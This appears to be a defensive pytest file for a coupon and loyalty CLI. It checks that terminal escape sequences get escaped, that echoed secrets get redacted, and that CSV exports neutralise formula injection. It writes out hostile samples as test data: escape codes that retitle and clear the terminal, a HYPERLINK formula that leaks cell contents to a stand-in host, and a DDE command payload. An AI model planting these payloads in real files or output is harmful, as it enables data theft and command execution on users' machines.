"""What reaches a terminal or a spreadsheet: no escape sequence raw, no formula run."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import httpx
import pytest

from coupontools_async import cli
from coupontools_async.cli import _common as cli_common
from coupontools_async.cli import _importing as cli_importing
from tests.attacks._hostile import CLIENT_SECRET, client, mock

# Retitle the terminal, clear the screen, ring the bell; 0x9b is the one-byte CSI.
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x9b31m"
RAW = ("\x1b", "\x07", "\x9b")


def _forged_event(tmp_path: Path) -> Path:
    # The documented loyalty_v3_created shape, its texts carrying escape sequences.
    payload = {
        "id": "evt_forged1",
        "datetime": "2025-01-06 09:00:00",
        "type": "loyalty_v3_created",
        "loyalty_id": 1,
        "user": {"id": 7, "first_name": "Ann" + ESCAPES, "email": "ann@example.com"},
    }
    path = tmp_path / "event.json"
    path.write_text(json.dumps(payload))
    return path


def test_webhooks_parse_prints_a_forged_payloads_escape_sequences_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main(["webhooks", "parse", str(_forged_event(tmp_path))]) == 0
    out = capsys.readouterr().out
    assert "Ann" in out
    assert not any(c in out for c in RAW)
    assert "\\x1b]0;pwned" in out  # shown, so the reader sees what was sent


def test_webhooks_parse_json_escapes_what_json_itself_leaves_raw(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main(["webhooks", "parse", str(_forged_event(tmp_path)), "--json"]) == 0
    out = capsys.readouterr().out
    assert not any(c in out for c in RAW)
    assert json.loads(out)["user"]["first_name"] == "Ann" + ESCAPES  # still the same data


def _through(monkeypatch: pytest.MonkeyPatch, handler: Any) -> None:
    monkeypatch.setattr(cli_common, "_client", lambda opts: client(transport=mock(handler)))


def _refusing_with_the_secret(request: httpx.Request) -> httpx.Response:
    # A server whose error text quotes the secret it was sent, with escape sequences.
    secret = request.headers["x-client-secret"]
    return httpx.Response(401, json={"message": f"bad secret {secret}{ESCAPES}"})


def test_a_one_line_error_escapes_the_servers_text_and_redacts_an_echoed_secret(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _through(monkeypatch, _refusing_with_the_secret)
    assert cli.main(["wallet-cards", "list"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("error: ")
    assert err.count("\n") == 1
    assert not any(c in err for c in RAW)
    assert CLIENT_SECRET not in err
    assert "[redacted]" in err


def test_a_debug_traceback_is_escaped_and_redacted_too(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    _through(monkeypatch, _refusing_with_the_secret)
    assert cli.main(["--debug", "wallet-cards", "list"]) == 1
    err = capsys.readouterr().err
    assert "Traceback" in err
    assert "AuthenticationError: HTTP 401" in err
    assert not any(c in err for c in RAW)
    assert CLIENT_SECRET not in err


HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.test/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_an_export_neutralises_cells_a_spreadsheet_would_run_and_imports_back_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    users = [
        {"id": n + 1, "first_name": name, "phone": "+31612345678", "stamps": -1}
        for n, name in enumerate(HOSTILE_NAMES)
    ]
    pages = [users, []]

    def handler(request: httpx.Request) -> httpx.Response:
        return httpx.Response(200, json=pages.pop(0) if pages else [])

    _through(monkeypatch, handler)
    target = tmp_path / "users.csv"
    assert cli.main(["wallet-users", "export", "12", "-o", str(target)]) == 0
    with target.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["first_name"] for r in rows] == ["'" + name for name in HOSTILE_NAMES]
    assert {r["phone"] for r in rows} == {"+31612345678"}  # a phone number is not a formula
    assert {r["stamps"] for r in rows} == {"-1"}
    imported = [row.data["first_name"] for row in cli_importing._import_rows(target)]
    assert imported == HOSTILE_NAMES
